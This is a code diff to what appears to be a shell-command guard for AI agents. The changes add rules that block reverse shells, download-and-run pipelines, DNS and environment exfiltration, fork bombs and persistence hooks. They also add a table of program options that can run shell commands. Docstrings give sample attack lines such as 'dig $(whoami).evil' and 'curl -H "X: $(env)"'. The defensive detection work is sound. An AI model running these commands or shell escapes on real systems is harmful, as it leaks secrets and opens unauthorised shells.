@@ -17,8 +17,8 @@ import re
 from typing import TYPE_CHECKING
 
 from teragent_shellguard import pathclass as pc
-from teragent_shellguard.effects import METADATA_HOST, Effect, describe
-from teragent_shellguard.tables import EXEMPT_READ, NET_DNS, SHELL_NAMES
+from teragent_shellguard.effects import _SQL_STMT, METADATA_HOST, Effect, describe
+from teragent_shellguard.tables import DB_CLIENTS, EXEMPT_READ, NET_DNS, SHELL_NAMES
 
 if TYPE_CHECKING:
     from teragent_shellguard.engine import Ctx
@@ -57,7 +57,10 @@ ACTION_RULES: dict[str, tuple[int, str]] = {
     "disk.erase": (2, "destructive_disk"), "cloud.mass_delete": (2, "remote_exec"), "cloud.iam_grant": (2, "remote_exec"),
     "remote.exec": (1, "remote_exec"), "net.tunnel_reverse": (2, "remote_exec"), "net.tunnel": (1, "remote_exec"),
     "net.upload_cloud": (1, "exfiltration"), "resource.stress": (1, "resource_exhaustion"),
-    "resource.fill": (2, "resource_exhaustion"), "db.drop": (2, "database_destructive"), "db.reset": (1, "database_destructive"),
+    "resource.fill": (2, "resource_exhaustion"), "resource.fork": (2, "resource_exhaustion"),
+    "resource.big": (1, "resource_exhaustion"), "exec.download": (2, "download_exec"), "exec.socket": (2, "reverse_shell"), "exec.shell": (2, "inline_exec"), "exec.remote_msi": (2, "download_exec"),
+    "delete.home": (2, "destructive_delete"), "persist.hooks": (2, "persistence"), "remote.exec_admin": (2, "remote_exec"),
+    "net.upload_sensitive": (2, "exfiltration"), "net.delete": (1, "remote_exec"), "package.install": (1, "package_install"), "db.drop": (2, "database_destructive"), "db.reset": (1, "database_destructive"),
 }
 _SAFE_DB = re.compile(r"(?i)\b(?:if\s+exists\s+)?[\w.\"`]*(?:test|tmp|temp|scratch|dev|local|sandbox|staging_copy)\w*")
 _SECRET_VAR = re.compile(r"\$\{?([A-Za-z_]*(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD|CREDENTIALS?|_PAT|AUTH)[A-Za-z_]*)\}?")
@@ -68,17 +71,71 @@ def _hit(ctx: Ctx, level: int, cat: str, reason: str) -> None:
     (ctx.block if level == 2 else ctx.warn)(cat, reason)
 
 
+def actions_only(name: str, words: list[str], ctx: Ctx) -> None:
+    """State-change effects of a wrapper (``systemd-run --on-calendar``) before it is peeled."""
+    for e in describe(name, words, None):
+        if "." in e.kind:
+            _one(e, name, True, ctx)
+
+
 def judge(name: str, words: list[str], ctx: Ctx, cmd: Command | None) -> list[Effect]:
     """Describe ``words`` and add the findings its effects deserve; returns the effects."""
     effects = describe(name, words, cmd)
     exempt = name in EXEMPT_READ
     for e in effects:
         _one(e, name, exempt, ctx)
+    if cmd is not None and cmd.redirs and (name == "yes" or name in ("cat", "pv", "tee") and any(
+            e.target in ("/dev/zero", "/dev/urandom", "/dev/random") for e in effects)) and any(
+            e.kind in ("write", "append") and e.cls not in (pc.NULL, pc.DEVICE, pc.DISK) for e in effects):
+        ctx.block("resource_exhaustion", f"writes an endless stream into a file: '{name} {' '.join(words[1:])[:40]}'")
+    if cmd is not None and name in ("ed", "ex") and cmd.stdin_text:
+        for line in cmd.stdin_text.splitlines():
+            if line.lstrip().startswith("!"):
+                ctx.check_text(line.lstrip()[1:], f"{name} shell escape")
+    for opt, text in _command_options(name, words):
+        ctx.check_text(text, f"{name} {opt}")
     if name not in SHELL_NAMES and name not in ("nc", "ncat", "socat"):
         args = words[1:]
         if any(a.rsplit("/", 1)[-1] in SHELL_NAMES for a in args) and sum(bool(_IP_PORT.match(a)) for a in args) >= 2:
             ctx.block("reverse_shell", f"{name} connects a shell to a network address ('{' '.join(args)[:60]}')")
     return effects
+
+
+#: program -> options whose value is a shell command (GTFOBins "shell" and "command" facts)
+COMMAND_OPTIONS: dict[str, tuple[str, ...]] = {
+    "man": ("-P", "--pager", "-H", "--html"), "less": ("--lesskey-src",), "git": ("--exec-path",),
+    "rsync": ("-e", "--rsh", "--rsync-path"), "tcpdump": ("-z",), "pssh": ("-i", "@last"), "parallel-ssh": ("@last",),
+    "make": ("--eval",), "nmap": ("--script-args",), "kubectl": ("@--",), "oc": ("@--",), "ionice": (),
+    "journalctl": (), "mysql": ("--pager",), "psql": (),
+}
+
+
+def _command_options(name: str, words: list[str]) -> list[tuple[str, str]]:
+    opts = COMMAND_OPTIONS.get(name)
+    if not opts:
+        return []
+    out: list[tuple[str, str]] = []
+    args = words[1:]
+    for i, a in enumerate(args):
+        for o in opts:
+            if o.startswith("@"):
+                continue
+            if a == o and i + 1 < len(args):
+                out.append((o, args[i + 1]))
+            elif a.startswith(o + "=") or (len(o) == 2 and a.startswith(o) and len(a) > 2 and not a.startswith("--")):
+                out.append((o, a[len(o) + 1:] if a.startswith(o + "=") else a[2:]))
+    if "@last" in opts and args and " " in args[-1]:
+        out.append(("command", args[-1]))
+    if "@--" in opts and "--" in args:
+        out.append(("--", " ".join(args[args.index("--") + 1:])))
+    if name == "make":
+        out = [(o, "\n".join(ln.strip().lstrip("-@+") for ln in t.splitlines() if ln.startswith("\t")) or t)
+               for o, t in out]
+    if name == "kubectl" and out:
+        from shlex import quote
+
+        out = [(o, " ".join(quote(w) for w in args[args.index("--") + 1:])) for o, _ in out]
+    return out
 
 
 def _one(e: Effect, name: str, exempt: bool, ctx: Ctx) -> None:
@@ -156,8 +213,55 @@ def secret_search(name: str, words: list[str], ctx: Ctx) -> None:
                                       f"'{name} {' '.join(args)[:60]}'")
 
 
-def judge_pipeline(stages: list[tuple[str, list[str], list[Effect]]], ctx: Ctx) -> None:
-    """Data flow: sensitive data (credential files, the environment) upstream of a network client."""
+_DOWNLOADERS = frozenset({"curl", "wget", "wget2", "fetch", "aria2c", "http", "https", "xh", "httpie", "curlie",
+                          "lwp-request", "lynx", "w3m", "ftp", "tftp", "lftp", "nc", "socat", "openssl", "ssh"})
+_TRANSFORMERS = frozenset({"base64", "base32", "basenc", "xxd", "gpg", "gpg2", "age", "openssl", "gunzip", "zcat", "gzip",
+                           "bzcat", "bunzip2", "xz", "xzcat", "unxz", "zstd", "zstdcat", "lzcat", "uudecode", "rev", "tr",
+                           "sed", "awk", "gawk", "printf", "echo", "python", "perl", "ruby", "node", "php", "lua", "iconv",
+                           "cut", "jq", "certutil"})
+_ENV_DUMPERS = frozenset({"env", "printenv", "set", "export", "declare", "compgen"})
+_STDIN_EVAL = frozenset({"eval", "source", ".", "sh", "bash", "zsh", "dash", "ksh", "invoke-expression", "iex"})
+
+
+def _runs_stdin(cmd: Command, info: tuple[str, list[str], list[Effect]] | None, ctx: Ctx) -> bool:
+    from teragent_shellguard.chains import _reads_stdin_script
+
+    if cmd.group is not None:  # ``| while read l; do eval "$l"; done``
+        return any((i := ctx.effects.get(id(c))) is not None and i[0] in _STDIN_EVAL for c in cmd.group.walk())
+    if info is None:
+        return False
+    name, words, _ = info
+    if name == "xargs" or name == "parallel":
+        return any(w.rsplit("/", 1)[-1] in SHELL_NAMES for w in words[1:])
+    return bool(words) and _reads_stdin_script([name, *words[1:]])
+
+
+def judge_pipeline(pipe: object, ctx: Ctx) -> None:
+    """Data flow along a pipeline: downloaded or decoded text into a shell, sensitive data
+    (credential files, the environment) into a network client, SQL text into a database."""
+    cmds = pipe.cmds  # type: ignore[attr-defined]
+    upstream: list[str] = []
+    for i, cmd in enumerate(cmds):
+        info = ctx.effects.get(id(cmd))
+        if i and _runs_stdin(cmd, info, ctx):
+            if any(n in _DOWNLOADERS for n in upstream):
+                ctx.block("download_exec", f"runs downloaded content: '{' | '.join(upstream)}' feeds a program that executes its input")
+                break
+            gen = [n for n in upstream if n in _TRANSFORMERS]
+            if gen:
+                ctx.block("obfuscation", f"runs generated or decoded text: '{gen[-1]}' feeds a program that executes its input")
+                break
+        if info is not None:
+            name, words, _ = info
+            if i and name in DB_CLIENTS:
+                prev = ctx.effects.get(id(cmds[i - 1]))
+                if prev and prev[0] in ("echo", "printf"):
+                    for stmt in _SQL_STMT.findall(" ".join(prev[1][1:])):
+                        _one(Effect("sql", stmt, "", f"{prev[0]} ... | {name} {' '.join(words[1:])}"), name, False, ctx)
+            upstream.append(name)
+        elif cmd.group is not None:
+            upstream.extend(ctx.effects[id(c)][0] for c in cmd.group.walk() if id(c) in ctx.effects)
+    stages = [ctx.effects[id(c)] for c in cmds if id(c) in ctx.effects]
     source: str | None = None
     for name, words, effects in stages:
         if source and any(e.kind in ("net", "dns", "send") for e in effects) and name not in ("jq", "grep"):
@@ -194,4 +298,24 @@ def judge_list(script: Script, ctx: Ctx, effects_of: dict[int, tuple[str, list[s
                 target = next((w for w in words[1:] if not w.startswith("-")), None)
             if target and target.lstrip("./") in downloaded:
                 ctx.block("download_exec", f"runs '{target}', downloaded earlier by '{downloaded[target.lstrip('./')]}'")
+                return
+
+
+def judge_substitutions(cmd: Command, ctx: Ctx) -> None:
+    """Command output placed in a network request: ``curl -H "X: $(env)"``, ``dig $(whoami).evil``."""
+    name, _, effects = ctx.effects[id(cmd)]
+    kinds = {e.kind for e in effects}
+    if not kinds & {"net", "dns", "send"}:
+        return
+    for _kind, sub, idx in cmd.subs:
+        if idx < 1:
+            continue
+        inner = [ctx.effects[id(c)] for c in sub.walk() if id(c) in ctx.effects]
+        if name in NET_DNS:
+            ctx.block("exfiltration", f"'{name}' looks up a host name built from command output (DNS exfiltration)")
+            return
+        for iname, iwords, ieffects in inner:
+            if iname in _ENV_DUMPERS and len(iwords) <= 2 or any(
+                    e.kind in ("read", "mention") and e.cls in pc.SENSITIVE_SEND for e in ieffects):
+                ctx.block("exfiltration", f"'{name}' sends the output of '{' '.join(iwords)[:40]}' to the network")
                 return
